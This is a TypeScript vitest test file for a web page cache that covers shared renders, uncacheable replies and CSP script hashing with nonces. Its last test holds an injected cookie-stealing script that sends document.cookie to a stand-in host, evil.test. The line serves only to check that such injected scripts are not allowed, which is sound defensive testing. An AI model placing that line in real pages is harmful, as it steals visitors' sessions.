import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { pageCache } from '#platform/pages/page-cache'

const page = (body: string, init?: ResponseInit) => async () => new Response(body, init)

test('concurrent visitors share one render, later ones the cached page', async () => {
  const keep = pageCache()
  let renders = 0
  const render = async () => new Response(`render ${++renders}`)
  const bodies = await Promise.all([keep('/a', render), keep('/a', render), keep('/a', render)])
  expect(new Set(bodies.map((one) => one.body.toString()))).toEqual(new Set(['render 1']))
  expect((await keep('/a', render)).body.toString()).toBe('render 1')
  expect((await keep('/b', render)).body.toString()).toBe('render 2')
})

test.each([
  ['an error', { status: 500 }],
  ['a page not found', { status: 404 }],
  ['a reply that sets a cookie', { headers: { 'set-cookie': 'a=b' } }],
  ['a page that must not be stored', { headers: { 'cache-control': 'no-store' } }],
])('%s is never kept', async (_what, init) => {
  const keep = pageCache()
  await keep('/a', page('first', init))
  expect((await keep('/a', page('second'))).body.toString()).toBe('second')
})

test('a failed render is retried for the next visitor', async () => {
  const keep = pageCache()
  await expect(keep('/a', () => Promise.reject(new Error('no')))).rejects.toThrow('no')
  expect((await keep('/a', page('well'))).body.toString()).toBe('well')
})

const preloads = ['/a.js', '/b.js'].map((file) => `<link rel="modulepreload" href="${file}"/>`).join('')
const withScripts = `<head>${preloads}</head><script>let a</script><script type="module" async="">import "/a.js"</script>`
const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
/** A page as the renderer writes it: its scripts carry the nonce. */
const marked = (html: string) => async (nonce: string) => new Response(html.replaceAll('<script', `<script nonce="${nonce}"`), asHtml)
const asHtml = { headers: { 'content-type': 'text/html; charset=utf-8' } }

test('a page defers its scripts until it is painted, and other replies stay unchanged', async () => {
  const keep = pageCache()
  const asPage = await keep('/a', marked(withScripts))
  const kept = asPage.body.toString()
  expect(kept).toMatch(
    /^<head><\/head><script>let a<\/script><script type="text\/plain" data-preload="\/a.js \/b.js">import "\/a.js"<\/script><script>/,
  )
  const start = /<script>([^<]*)<\/script>$/.exec(kept)?.[1] ?? ''
  expect(asPage.scriptHashes.split(' ')).toEqual([hash('let a'), hash('import "/a.js"'), hash(start)]) // the deferred script, too
  expect((await keep('/b', page(withScripts))).body.toString()).toBe(withScripts)
})

test('every script of a guest page has a type that HTML allows: none, module or a MIME type', async () => {
  const { body } = await pageCache()('/a', marked(withScripts))
  const types = [...body.toString().matchAll(/<script\b([^>]*)>/g)].map(([, attributes]) => /\stype="([^"]*)"/.exec(attributes ?? '')?.[1])
  expect(types).toHaveLength(3)
  expect(types.filter((type) => type !== undefined && type !== 'module' && !/^[\w.+-]+\/[\w.+-]+$/.test(type))).toEqual([])
  expect(body.toString()).not.toContain('<link') // a preload by any other name would be an unknown relation
})

test('only the scripts that the renderer marked are allowed, and the mark does not reach the page', async () => {
  const injected = 'fetch("//evil.test/" + document.cookie)'
  const guesses = `<script nonce="">${injected}</script><script nonce="AAAA">${injected}</script><img alt="<script>${injected}</script>">`
  const seen: string[] = []
  const render = async (nonce: string) => {
    seen.push(nonce)
    const own = `<script nonce="${nonce}">let a = "đ"</script><script nonce="${nonce}" src="/a.js"></script>`
    return new Response(`<body>${own}<script>${injected}</script>${guesses}</body>`, asHtml)
  }
  const { body, scriptHashes } = await pageCache()('/a', render)
  expect(scriptHashes.split(' ')[0]).toBe(hash('let a = "đ"'))
  expect(scriptHashes.split(' ')).toHaveLength(2) // and the script that starts the deferred ones
  expect(scriptHashes).not.toContain(hash(injected))
  expect(body.toString()).not.toContain(seen[0])
  await pageCache()('/a', render)
  expect(new Set(seen).size).toBe(2)
})
